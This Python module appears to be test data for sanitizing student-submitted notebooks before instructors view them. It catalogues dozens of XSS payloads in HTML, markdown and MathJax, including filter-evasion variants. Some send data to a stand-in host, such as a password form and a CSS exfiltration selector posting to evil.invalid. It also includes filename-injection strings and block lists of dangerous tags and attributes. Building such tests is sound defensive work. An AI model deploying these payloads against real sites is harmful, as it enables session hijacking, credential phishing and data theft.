"""What a student may write into a cell, an output or a name so that an instructor's browser does their bidding.

`MARKUP` is HTML, `LINKS` and `MATHS` are markdown. Each that runs calls `ran('name')`, which a page under test defines;
those that load, send or restyle instead are told by what they leave in the page: see `HARMFUL`.
"""

from __future__ import annotations

import base64

RUN = "(top.ran||window.ran)('{}')"


def _run(name: str) -> str:
    return RUN.format(name)


def _encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


MARKUP: dict[str, str] = {
    name: markup.replace("RUN", _run(name))
    for name, markup in {
        "script": '<script>RUN</script>',
        "script of a file": '<script src="evil.js"></script>',
        "script with spaces": '<script\n\t>RUN</script\n>',
        "script of another case": '<ScRiPt>RUN</sCrIpT>',
        "script in a script": '<scr<script>ipt>RUN</scr</script>ipt>',
        "script not closed": '<script>RUN//',
        "script of a module": '<script type="module">RUN</script>',
        "configuration of MathJax": '<script type="text/x-mathjax-config">RUN</script>',
        "image": '<img src=x onerror="RUN">',
        "image without quotes": '<img src=x onerror=RUN>',
        "image with a slash": '<img/src=x/onerror=RUN>',
        "image in an attribute": '<a title="<img src=x onerror=RUN>">a</a>',
        "image behind a quote": '<b title="\"><img src=x onerror=RUN>">b</b>',
        "image with entities": '<img src=x onerror="&#x28;top.ran||window.ran&#x29;(\'image with entities\')">',
        "svg": '<svg onload="RUN"></svg>',
        "svg with a script": '<svg><script>RUN</script></svg>',
        "svg animates": '<svg><animate onbegin="RUN" attributeName="x" dur="1s"></svg>',
        "svg with a link": '<svg><a xlink:href="javascript:RUN"><text x="9" y="20">a</text></a></svg>',
        "svg with a foreign object": '<svg><foreignObject><iframe srcdoc="<script>RUN</script>"></iframe></foreignObject></svg>',
        "svg style": '<svg><style><img src=x onerror="RUN"></style></svg>',
        "mathml": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
        "mathml with a link": '<math href="javascript:RUN"><mtext>a</mtext></math>',
        "noscript": '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
        "comment": '<!--><img src=x onerror="RUN">-->',
        "processing instruction": '<?xml ><img src=x onerror="RUN"> ?>',
        "CDATA": '<![CDATA[><img src=x onerror="RUN">]]>',
        "textarea": '<textarea></textarea><img src=x onerror="RUN">',
        "iframe": '<iframe src="javascript:RUN"></iframe>',
        "iframe with a document": '<iframe srcdoc="<script>RUN</script>"></iframe>',
        "iframe of data": f'<iframe src="data:text/html;base64,{_encoded("<script>" + _run("iframe of data") + "</script>")}"></iframe>',
        "frameset": '<frameset onload="RUN"><frame src="about:blank"></frameset>',
        "object": '<object data="javascript:RUN"></object>',
        "object of a file": '<object data="evil.html" type="text/html"></object>',
        "embed": '<embed src="javascript:RUN">',
        "applet": '<applet code="javascript:RUN"></applet>',
        "video": '<video><source onerror="RUN"></video>',
        "audio": '<audio src=x onerror="RUN"></audio>',
        "details": '<details open ontoggle="RUN"><summary>s</summary>d</details>',
        "input": '<input autofocus onfocus="RUN">',
        "select": '<select autofocus onfocus="RUN"><option>o</select>',
        "button": '<button formaction="javascript:RUN" type="submit">b</button>',
        "marquee": '<marquee onstart="RUN">m</marquee>',
        "body": '<body onload="RUN">',
        "html": '<html onmouseover="RUN">',
        "template": '<template><img src=x onerror="RUN"></template>',
        "template with a shadow": '<div><template shadowrootmode="open"><img src=x onerror="RUN"></template></div>',
        "slot": '<slot onslotchange="RUN"><p>a</p></slot>',
        "popover": '<button popovertarget=x>b</button><div popover id=x onbeforetoggle="RUN">d</div>',
        "link of a script": '<a href="javascript:RUN">a</a>',
        "link with a tab": '<a href="java\tscript:RUN">a</a>',
        "link with entities": '<a href="&#106;avascript&colon;RUN">a</a>',
        "link with a control character": '<a href="\x01javascript:RUN">a</a>',
        "link of data": f'<a href="data:text/html;base64,{_encoded("<script>" + _run("link of data") + "</script>")}">a</a>',
        "link of vbscript": '<a href="vbscript:RUN">a</a>',
        "image of data": f'<img src="data:image/svg+xml;base64,{_encoded(chr(60) + "svg onload=" + chr(34) + _run("image of data") + chr(34) + "/>")}">',
        "area": '<map name=m><area href="javascript:RUN" coords="0,0,999,999" shape=rect></map>',
        "meta refresh": '<meta http-equiv="refresh" content="0;url=data:text/html,gone">',
        "meta policy": '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">',
        "base": '<base href="https://evil.invalid/">',
        "base of scripts": '<base href="javascript:/">',
        "form": '<form action="https://evil.invalid/" id=f><input name=p type=password><button>Log in</button></form>',
        "form of a script": '<form action="javascript:RUN"><input type=submit></form>',
        "style": "<style>@import 'https://evil.invalid/a.css'; body { display: none }</style>",
        "style of a selector": '<style>input[value^="1"] { background: url(https://evil.invalid/1) }</style>',
        "style attribute": '<div style="position:fixed;inset:0;background:url(https://evil.invalid/b)">cover</div>',
        "style attribute with an expression": '<div style="width: expression(RUN)">e</div>',
        "stylesheet": '<link rel="stylesheet" href="evil.css">',
        "import": '<link rel="import" href="evil.html">',
        "prefetch": '<link rel="prefetch" href="https://evil.invalid/">',
        "picture from elsewhere": '<img src="https://evil.invalid/seen.png" srcset="https://evil.invalid/2.png 2x">',
        "picture that asks": '<img src="/logout">',
        "background": '<table background="https://evil.invalid/b.png"><tr><td background="https://evil.invalid/c">x</table>',
        "id of a score": '<div id="m-explain" class="score tabbable">9</div><div id="m-explain-comment" class="comment"></div>',
        "id of a variable": '<a id="submission_id" name="base_url" href="x">a</a><img name="body">',
        "class of a cover": '<div class="modal fade in" style="display:block">Log in again</div>',
        "ping": '<a href="#" ping="https://evil.invalid/">p</a>',
        "target": '<a href="#" target="_top" download="x.exe">t</a>',
        "data attributes": '<span data-toggle="tooltip" data-html="true" title="<img src=x onerror=RUN>">s</span>',
        "link that tells": '<a data-link="x\' onclick=\'RUN">d</a>',
        "closes the page": '</div></div></div></div></body></html><script>RUN</script>',
        "null byte": '<scr\0ipt>RUN</scr\0ipt>',
        "wide letters": '＜script＞RUN＜/script＞',
    }.items()
}  # fmt: skip
LINKS: dict[str, str] = {
    name: text.replace("RUN", _run(name).replace("(", "%28").replace(")", "%29"))
    for name, text in {
        "markdown link": "[a](javascript:RUN)",
        "markdown link of another case": "[a](JaVaScRiPt:RUN)",
        "markdown link of data": "[a](data:text/html,<script>RUN</script>)",
        "markdown link with a title": "[a](x '\"onmouseover=RUN x=\"')",
        "markdown reference": "[a][b]\n\n[b]: javascript:RUN",
        "markdown address": "<javascript:RUN>",
        "markdown picture": "![a](javascript:RUN)",
        "markdown picture with a quote": '![a"onerror="RUN](x)',
        "markdown attachment": '![a](attachment:x"onerror="RUN)',
        "markdown heading": "# m-explain\n## <img src=x onerror=RUN>",
        "markdown code": '```"><script>RUN</script>\nx\n```',
        "markdown fence": "```html onload=RUN\n<script>RUN</script>\n```",
    }.items()
}
MATHS: dict[str, str] = {
    name: text.replace("RUN", _run(name))
    for name, text in {
        "href in mathematics": r"$\href{javascript:RUN}{x}$",
        "unicode in mathematics": r"$\unicode[x;onload=RUN]{x}$",
        "style in mathematics": r"$\style{position:fixed;top:0;left:0;width:100%;height:100%}{x}$",
        "class in mathematics": r"$\class{modal}{x} \cssId{m-explain}{y}$",
        "require in mathematics": r"$\require{https://evil.invalid/x.js} x$",
        "markup in mathematics": r"$x <img src=x onerror=RUN> y$",
        "closed in mathematics": r"$$</script><script>RUN</script>$$",
        "macro in mathematics": r"$\def\x{\x\x}\x$",
        "text in mathematics": r"$\text{<script>RUN</script>}$",
    }.items()
}
TEXTS: dict[str, str] = {**MARKUP, **LINKS, **MATHS}
NAMES: dict[str, str] = {
    name: text.replace("RUN", "ran(1)")
    for name, text in {
        "markup": "<img src=x onerror=RUN>",
        "quote": "\"><svg onload=RUN>",
        "single quote": "'-RUN-'",
        "script end": "<\\script><script>RUN",
        "brackets": "{{ 7*7 }}{% raw %}",
        "terminal": "\x1b]0;gone\x07\x1b[2Jx",
        "direction": "abc\u202egnp.exe",
    }.items()
}
"""Names of students and files: no slash in them."""
HARMFUL_TAGS = frozenset([
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input", "button", "select", "textarea", "base", "meta", "link", "style", "template", "svg", "math", "video", "audio", "source", "marquee", "body", "html", "head", "map", "area", "slot", "noscript",
])  # fmt: skip
HARMFUL_ATTRIBUTES = frozenset([
    "style", "id", "name", "srcdoc", "formaction", "action", "ping", "target", "srcset", "background", "data-toggle", "data-link", "data-html", "http-equiv", "popover", "shadowrootmode", "xlink:href", "download",
])  # fmt: skip
LEGITIMATE = """\
## Why it is faster

It reads **each element once**, so *traffic* halves: $T = \\frac{2 n}{B}$ where $a < b$ and `a[i] < b && c > d`.

$$\\sum_{i=0}^{n-1} x_i \\le n \\cdot \\max_i |x_i|$$

| tile | ms |
|---:|:---|
| 16 | 2.5 |

```cpp
if (i < n) y[i] = a * x[i] + y[i];
```

1. first [the guide](https://docs.nvidia.com/cuda/)
2. H<sub>2</sub>O, <kbd>Ctrl</kbd>, <details><summary>more</summary>hidden</details>

![plot](data:image/png;base64,PICTURE)
![own](plot.png)
"""
